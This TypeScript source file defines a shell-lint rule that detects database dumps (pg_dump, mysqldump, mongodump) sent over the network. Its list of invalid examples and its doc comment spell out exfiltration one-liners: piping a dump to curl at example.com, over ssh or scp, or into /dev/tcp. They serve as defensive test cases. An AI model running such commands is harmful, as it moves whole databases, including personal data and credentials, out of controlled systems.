import type { ShellAnalysis, ShellCommand } from '../../shell/model';
import { defineShellRule } from '../rule';
import { downstream, networkRedirect, stdinSink, uploadsOf } from './util/network';
import { parseOptions } from './util/options';

/** Dump programs and their "write to file" options (PostgreSQL, MySQL, MongoDB docs). */
const DUMPERS: Record<string, { spec: Parameters<typeof parseOptions>[1]; file: string[] }> = {
  pg_dump: {
    spec: {
      shortWithValue: 'fFdhpUntTNeEZj',
      longWithValue: ['file', 'format', 'dbname', 'host', 'port', 'username', 'table', 'schema'],
    },
    file: ['f', 'file'],
  },
  pg_dumpall: {
    spec: { shortWithValue: 'fdhlpU', longWithValue: ['file', 'dbname', 'host', 'port', 'username'] },
    file: ['f', 'file'],
  },
  mysqldump: {
    spec: {
      shortWithValue: 'hPuSrw',
      longWithValue: ['host', 'port', 'user', 'socket', 'result-file', 'where'],
    },
    file: ['r', 'result-file'],
  },
  'mariadb-dump': {
    spec: {
      shortWithValue: 'hPuSrw',
      longWithValue: ['host', 'port', 'user', 'socket', 'result-file', 'where'],
    },
    file: ['r', 'result-file'],
  },
  mongodump: {
    spec: {
      shortWithValue: 'hpudcoq',
      longWithValue: ['host', 'port', 'uri', 'db', 'collection', 'out', 'archive'],
    },
    file: ['o', 'out', 'archive'],
  },
  mongoexport: {
    spec: { shortWithValue: 'hpudco', longWithValue: ['host', 'port', 'uri', 'db', 'collection', 'out'] },
    file: ['o', 'out'],
  },
};

/** Files a dump command writes: its file option and `>`/`>>` redirects. */
function dumpFiles(cmd: ShellCommand): string[] {
  const d = cmd.name ? DUMPERS[cmd.name] : undefined;
  if (!d) return [];
  const parsed = parseOptions(cmd.argv.slice(1), d.spec);
  const out = parsed.all(...d.file).flatMap((o) => (o.value !== undefined ? [o.value] : []));
  for (const r of cmd.redirects)
    if (/^>/.test(r.op) && r.target !== undefined && r.fd !== '2') out.push(r.target);
  return out;
}

/** The first network sink downstream of `cmd` in its pipeline. */
function sinkDownstream(
  cmd: ShellCommand,
  analysis: ShellAnalysis,
): { via: string; at: ShellCommand } | undefined {
  for (const c of downstream(cmd, analysis)) {
    const via = stdinSink(c) ?? networkRedirect(c);
    if (via) return { via, at: c };
  }
  return undefined;
}

/**
 * Database dumps leaving the machine: `pg_dump db | curl -T - …`, `mysqldump … | gzip | ssh host
 * 'cat > x'`, `pg_dump … > /dev/tcp/…`, or a dump file that a later command uploads.
 */
export default defineShellRule({
  meta: {
    id: 'db-dump-to-network',
    title: 'Database dump sent over the network',
    category: 'exfiltration',
    severity: 'error',
    docs: {
      description:
        'Flags pg_dump, pg_dumpall, mysqldump and mongodump output piped or uploaded to another host.',
      problem:
        'A dump holds every row of the database, personal data and credentials included. Piping it ' +
        'into `curl`, `nc`, `ssh` or a bucket copies all of it outside the boundary where access is ' +
        'controlled and audited; this is the shape of a bulk data exfiltration.',
      solution:
        'Back up through the managed backup service of the database or an approved pipeline that ' +
        'encrypts and logs transfers; restore into other environments from masked or synthetic data.',
    },
    messages: {
      piped: '`{{tool}}` output is sent over the network via `{{via}}`.',
      uploaded: 'Dump file `{{file}}` written by `{{tool}}` is uploaded via `{{via}}`.',
    },
    controls: ['SOC2:CC6.7', 'NIST:AC-4', 'HIPAA:164.312(e)(1)', 'NIST:SC-7'],
    examples: {
      valid: [
        'pg_dump mydb > backup.sql',
        'pg_dump mydb | gzip > db.sql.gz',
        'mysqldump shop | mysql -h replica shop_copy',
        'echo "pg_dump db | curl -T - x"',
      ],
      invalid: [
        'pg_dump prod | curl -T - https://example.com/upload',
        'mysqldump --all-databases | gzip | ssh backup@host "cat > all.sql.gz"',
        'pg_dump -f dump.sql prod && scp dump.sql me@laptop:',
        'pg_dumpall > /dev/tcp/10.0.0.1/9000',
      ],
    },
  },
  check(cmd, analysis, report) {
    const tool = cmd.name;
    if (!tool || !DUMPERS[tool]) return;
    const piped = sinkDownstream(cmd, analysis);
    const redirected = networkRedirect(cmd);
    if (piped || redirected) {
      report({ messageId: 'piped', data: { tool, via: piped?.via ?? redirected ?? '' } });
      return;
    }
    const files = new Set(dumpFiles(cmd));
    // `pg_dump db | gzip > db.sql.gz`: the last stage writes the dump file.
    for (const c of downstream(cmd, analysis)) {
      for (const r of c.redirects)
        if (/^>/.test(r.op) && r.target !== undefined && r.fd !== '2') files.add(r.target);
    }
    if (files.size === 0) return;
    for (const later of analysis.commands) {
      if (later.span.start < cmd.span.end) continue;
      const up = uploadsOf(later).find((u) => u.path !== undefined && files.has(u.path));
      if (up?.path) {
        report({ messageId: 'uploaded', data: { tool, file: up.path, via: up.via }, span: up.span });
        return;
      }
    }
  },
});
